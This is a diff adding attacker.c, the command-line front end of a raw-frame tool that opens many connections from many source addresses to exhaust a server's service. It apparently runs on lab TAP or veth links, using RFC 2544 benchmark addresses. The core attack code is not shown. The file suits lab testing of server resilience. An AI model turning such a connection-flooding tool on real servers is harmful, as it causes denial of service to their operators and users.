@@ -1,0 +1,206 @@
+/*
+ * attacker.c -- one machine, or a thousand, that would starve a server.
+ *
+ *      attacker Q3 httpd --device leat0 --server 10.0.0.2 --gateway 10.0.0.254 --addresses 8
+ */
+#include "attack.h"
+
+#include <arpa/inet.h>
+#include <getopt.h>
+#include <stdio.h>
+#include <stdlib.h>
+
+enum {
+    CONNECTIONS_MAX = 20000,
+    SECONDS_MAX = 3600
+};
+
+/* ---- The command line ----------------------------------------------------------------------- */
+
+static void usage(void)
+{
+    printf(
+        "usage: attacker PLAY SERVICE --device NAME --server IP --gateway IP [OPTION]...\n\n"
+        "Plays an attack on a server by raw frames, as root, from addresses that nobody else has.\n"
+        "Says \"attacking\" when the server has answered ARP, \"over\" and its counters at the "
+        "end.\n\n"
+        "  --device NAME     where the frames go out: a TAP device, or an end of a veth\n"
+        "  --server IP       who is attacked\n"
+        "  --gateway IP      an address of ours on the link: the server's way to the others\n"
+        "  --port N          the server's port (that of the service)\n"
+        "  --from IP         the first of our addresses (198.18.0.1)\n"
+        "  --addresses N     how many (1)\n"
+        "  --connections N   how many in all (that of the play; one an address at least)\n"
+        "  --seconds S       how long (10)\n"
+        "  --after S         then be there for so long, and say no word (0)\n"
+        "  --rate N          frames a second (2000)\n"
+        "  --opens N         connections opened a second (200)\n"
+        "  --seed N          of the sequence numbers (1)\n"
+        "  --help            this\n");
+    plays_print();
+}
+
+static bool parse_ip(const char *text, uint32_t *ip)
+{
+    struct in_addr parsed;
+
+    if (inet_pton(AF_INET, text, &parsed) != 1)
+        return false;
+    *ip = ntohl(parsed.s_addr);
+    return true;
+}
+
+static bool parse_number(const char *text, double low, double high, double *number)
+{
+    char *end;
+
+    *number = strtod(text, &end);
+    return end != text && *end == '\0' && *number >= low && *number <= high;
+}
+
+enum key {
+    KEY_DEVICE,
+    KEY_SERVER,
+    KEY_GATEWAY,
+    KEY_FROM,
+    KEY_PORT,
+    KEY_ADDRESSES,
+    KEY_CONNECTIONS,
+    KEY_SECONDS,
+    KEY_AFTER,
+    KEY_RATE,
+    KEY_OPENS,
+    KEY_SEED,
+    KEY_HELP
+};
+
+struct settings {
+    const char *device;
+    uint32_t server, gateway, from;
+    double numbers[KEY_HELP]; /* by their keys */
+};
+
+static const struct option options[] = {{"device", required_argument, NULL, KEY_DEVICE},
+                                        {"server", required_argument, NULL, KEY_SERVER},
+                                        {"gateway", required_argument, NULL, KEY_GATEWAY},
+                                        {"from", required_argument, NULL, KEY_FROM},
+                                        {"port", required_argument, NULL, KEY_PORT},
+                                        {"addresses", required_argument, NULL, KEY_ADDRESSES},
+                                        {"connections", required_argument, NULL, KEY_CONNECTIONS},
+                                        {"seconds", required_argument, NULL, KEY_SECONDS},
+                                        {"after", required_argument, NULL, KEY_AFTER},
+                                        {"rate", required_argument, NULL, KEY_RATE},
+                                        {"opens", required_argument, NULL, KEY_OPENS},
+                                        {"seed", required_argument, NULL, KEY_SEED},
+                                        {"help", no_argument, NULL, KEY_HELP},
+                                        {NULL, 0, NULL, 0}};
+
+/* Takes one option; false if its value is wrong. */
+static bool set(struct settings *settings, int key)
+{
+    static const double most[KEY_HELP] = {[KEY_PORT] = 65535,
+                                          [KEY_ADDRESSES] = CONNECTIONS_MAX,
+                                          [KEY_SECONDS] = SECONDS_MAX,
+                                          [KEY_AFTER] = SECONDS_MAX,
+                                          [KEY_RATE] = 1e6,
+                                          [KEY_OPENS] = 1e6,
+                                          [KEY_SEED] = 1e9,
+                                          [KEY_CONNECTIONS] = CONNECTIONS_MAX};
+
+    switch (key) {
+    case KEY_DEVICE:
+        settings->device = optarg;
+        return true;
+    case KEY_SERVER:
+        return parse_ip(optarg, &settings->server);
+    case KEY_GATEWAY:
+        return parse_ip(optarg, &settings->gateway);
+    case KEY_FROM:
+        return parse_ip(optarg, &settings->from);
+    default:
+        return parse_number(optarg, key == KEY_AFTER ? 0 : 1, most[key], &settings->numbers[key]);
+    }
+}
+
+/* Returns the exit status, or -1 to go on. */
+static int parse(struct settings *settings, int argc, char **argv)
+{
+    int key;
+
+    while ((key = getopt_long(argc, argv, "", options, NULL)) != -1) {
+        if (key == KEY_HELP) {
+            usage();
+            return 0;
+        }
+        if (key == '?')
+            return 2;
+        if (!set(settings, key)) {
+            fprintf(stderr, "attacker: --%s can't be %s; see --help\n", options[key].name, optarg);
+            return 2;
+        }
+    }
+    if (argc - optind == 2 && settings->device && settings->server && settings->gateway)
+        return -1;
+    fprintf(stderr, "attacker: PLAY SERVICE --device --server --gateway are needed; see --help\n");
+    return 2;
+}
+
+/* Lays the attack out; false if there is no such play or service, or too much of it. */
+static bool prepare(struct attacker *attacker, const struct settings *settings, char **names)
+{
+    const double *numbers = settings->numbers;
+    const struct play *play = attacker->play = play_named(names[0]);
+    const struct service *service = attacker->service = service_named(names[1]);
+
+    if (!play || !service) {
+        fprintf(stderr, "attacker: no such %s; see --help\n", play ? "service" : "play");
+        return false;
+    }
+    attacker->addresses = (uint32_t)numbers[KEY_ADDRESSES];
+    attacker->count =
+        numbers[KEY_CONNECTIONS] > 0 ? (uint32_t)numbers[KEY_CONNECTIONS] : play->connections;
+    if (attacker->count < attacker->addresses)
+        attacker->count = attacker->addresses;
+    attacker->slots = (attacker->count + attacker->addresses - 1) / attacker->addresses;
+    attacker->connections = calloc(attacker->count, sizeof *attacker->connections);
+    attacker->random = 0x9e3779b97f4a7c15 * (uint64_t)numbers[KEY_SEED];
+    attacker->frames.rate = numbers[KEY_RATE];
+    attacker->opens.rate = numbers[KEY_OPENS];
+    attacker->wire =
+        (struct wire){.station = {0x02, 0x61, 0x74, 0x74, 0x61, 0x63},
+                      .gateway = settings->gateway,
+                      .first = settings->from,
+                      .count = attacker->addresses,
+                      .server = settings->server,
+                      .port = numbers[KEY_PORT] > 0 ? (uint16_t)numbers[KEY_PORT] : service->port};
+    return attacker->connections != NULL;
+}
+
+int main(int argc, char **argv)
+{
+    struct settings settings = {.from = 0xc6120001, /* 198.18.0.1 (RFC 2544) */
+                                .numbers = {[KEY_ADDRESSES] = 1,
+                                            [KEY_SECONDS] = 10,
+                                            [KEY_RATE] = 2000,
+                                            [KEY_OPENS] = 200,
+                                            [KEY_SEED] = 1}};
+    static struct attacker attacker;
+    int status = parse(&settings, argc, argv);
+    uint64_t end_ns;
+
+    if (status >= 0)
+        return status;
+    if (!prepare(&attacker, &settings, argv + optind))
+        return 2;
+    if (!wire_open(&attacker.wire, settings.device))
+        return 1;
+    printf("attacking\n");
+    fflush(stdout);
+    end_ns = attack_now_ns() + (uint64_t)(settings.numbers[KEY_SECONDS] * 1e9);
+    attack_until(&attacker, end_ns, false);
+    printf("over\n");
+    attack_report(&attacker);
+    fflush(stdout);
+    attack_until(&attacker, end_ns + (uint64_t)(settings.numbers[KEY_AFTER] * 1e9), true);
+    return 0;
+}
